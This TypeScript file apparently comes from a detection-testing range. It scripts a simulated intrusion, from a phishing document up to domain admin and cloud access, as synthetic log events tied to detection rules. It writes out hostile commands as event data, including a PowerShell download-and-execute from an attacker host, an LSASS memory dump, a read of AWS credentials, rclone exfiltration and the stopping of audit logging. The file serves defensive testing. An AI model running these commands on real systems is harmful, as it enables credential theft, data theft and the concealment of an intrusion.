import { backupAccount, domainController, domainSid, fileServer, workstationOf } from '#engine/range/company.ts';
import { attacker, attackerHome, cmd, in32, powershell, word } from '#engine/range/programs.ts';
import type { Story } from '#engine/range/story.ts';
import { systemUser } from '#engine/range/windows.ts';

const victim = workstationOf('m.okafor');
const { login, sid } = victim.user;
const dropped = 'C:\\ProgramData\\svhost.exe';

export const mailToDomainAdmin: Story = {
  title:
    'A mailed document, stolen credentials, domain administrator, the file server copied away, a step into the cloud.',
  truth: 'intrusion',
  why: 'The document of a mail ran code; from wks-001 somebody worked by hand up to the domain and the cloud account.',
  steps: [
    {
      minute: 0,
      technique: 'T1566.002',
      what: 'Follows a link in a mail about an invoice and downloads the document.',
      rules: ['link-to-phishing-was-clicked'],
      play: (scene) =>
        scene.clicked(victim.user, 'billing@freight.example', 'http://freight.example/invoice.docm', 'PHISH'),
    },
    {
      minute: 2,
      technique: 'T1204.002',
      what: 'Opens the document, which starts PowerShell with an encoded command.',
      rules: ['office-program-starts-interpreter', 'powershell-with-encoded-command'],
      play: (scene) => {
        const command = 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA';
        const parentCommand = `"${word}" /n "C:\\Users\\${login}\\Downloads\\invoice.docm"`;
        scene.run(victim, { image: powershell, command, parent: word, parentCommand });
      },
    },
    {
      minute: 3,
      technique: 'T1059.001',
      what: 'The script fetches more from the internet and runs it.',
      rules: ['script-runs-downloaded-code'],
      play: (scene) => scene.script(victim, `IEX(New-Object Net.WebClient).DownloadString('http://${attacker}/a')`),
    },
    {
      minute: 11,
      technique: 'T1547.001',
      what: 'A program in AppData is started at every logon.',
      rules: ['run-key-to-user-writable-folder'],
      play: (scene) =>
        scene.sysmon(victim, 13, powershell, {
          EventType: 'SetValue',
          TargetObject: `HKU\\${sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater`,
          Details: `C:\\Users\\${login}\\AppData\\Roaming\\upd\\upd.exe`,
        }),
    },
    {
      minute: 16,
      technique: 'T1069.002',
      what: 'Asks who the domain administrators are.',
      rules: ['domain-admins-or-trusts-listed'],
      play: (scene) =>
        scene.run(victim, { image: in32('net.exe'), command: 'net  group "Domain Admins" /domain', parent: cmd }),
    },
    {
      minute: 33,
      technique: 'T1003.001',
      what: 'Dumps the memory of LSASS with a library of Windows.',
      rules: ['lsass-dump-with-comsvcs'],
      play: (scene) =>
        scene.run(victim, {
          image: in32('rundll32.exe'),
          command: `rundll32.exe ${in32('comsvcs.dll')}, MiniDump 712 C:\\Users\\Public\\d.bin full`,
          parent: cmd,
          user: systemUser,
        }),
    },
    {
      minute: 48,
      technique: 'T1569.002',
      what: 'Goes to the file server with the account of the back-up, and installs a service there.',
      rules: ['service-installed-for-remote-execution'],
      play: (scene) => {
        scene.loggedOn(fileServer, backupAccount, victim.ip);
        scene.event(fileServer, 'system', 7045, {
          ServiceName: 'WinHelp',
          ImagePath: `%COMSPEC% /c start /b ${dropped}`,
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        });
      },
    },
    {
      minute: 60,
      technique: 'T1098.007',
      what: 'Makes an account of their own a domain administrator.',
      rules: ['member-added-to-domain-admins'],
      play: (scene) =>
        scene.event(domainController, 'security', 4728, {
          ...scene.subjectOf(backupAccount),
          MemberName: 'CN=helpdesk2,CN=Users,DC=harbor,DC=example',
          MemberSid: `${domainSid}-1290`,
          TargetUserName: 'Domain Admins',
          TargetDomainName: 'HARBOR',
          TargetSid: `${domainSid}-512`,
          PrivilegeList: '-',
        }),
    },
    {
      minute: 74,
      technique: 'T1567.002',
      what: 'Copies the finance folder to a store in the internet.',
      rules: ['data-copied-with-rclone'],
      play: (scene) =>
        scene.run(fileServer, {
          image: dropped,
          command: 'svhost.exe copy D:\\Finance store:fin --config C:\\ProgramData\\c.conf --transfers 12',
          parent: cmd,
          user: systemUser,
          more: {
            OriginalFileName: 'rclone.exe',
            Company: 'https://rclone.org',
            Description: 'Rsync for cloud storage',
          },
        }),
    },
    {
      minute: 90,
      technique: 'T1552.001',
      what: 'Reads cloud credentials on a web server and runs a program from memory there.',
      rules: ['cloud-credentials-read', 'program-run-from-world-writable-folder'],
      play: (scene) => {
        scene.exec('web01', 'deploy', ['cat', '/home/deploy/.aws/credentials']);
        scene.exec('web01', 'deploy', ['/dev/shm/.k/agent', '-c', attacker]);
      },
    },
    {
      minute: 93,
      technique: 'T1685.004',
      what: 'Stops the audit log of the web server.',
      rules: ['audit-log-switched-off'],
      play: (scene) => scene.exec('web01', 'root', ['systemctl', 'stop', 'auditd']),
    },
    {
      minute: 99,
      technique: 'T1098.001',
      what: 'Makes an access key for another user of the cloud account.',
      rules: ['access-key-made-for-another-user'],
      play: (scene) =>
        scene.cloud({
          user: 'deploy-web',
          service: 'iam',
          name: 'CreateAccessKey',
          from: attackerHome,
          request: { userName: 'svc-report' },
          more: { responseElements: { accessKey: { userName: 'svc-report', status: 'Active' } } },
        }),
    },
    {
      minute: 106,
      technique: 'T1685.002',
      what: 'Tries to stop the trail, and is refused.',
      rules: ['trail-stopped-or-deleted'],
      play: (scene) =>
        scene.cloud({
          user: 'deploy-web',
          service: 'cloudtrail',
          name: 'StopLogging',
          from: attackerHome,
          request: { name: 'main' },
          more: {
            errorCode: 'AccessDenied',
            errorMessage: 'User is not authorized to perform: cloudtrail:StopLogging',
          },
        }),
    },
    {
      minute: 114,
      technique: 'T1685.005',
      what: 'Empties the Security log of the file server.',
      rules: ['security-log-cleared'],
      play: (scene) =>
        scene.event(
          fileServer,
          'eventlog',
          1102,
          {},
          { user_data: { ...scene.subjectOf(backupAccount), xml_name: 'LogFileCleared' } },
        ),
    },
  ],
};
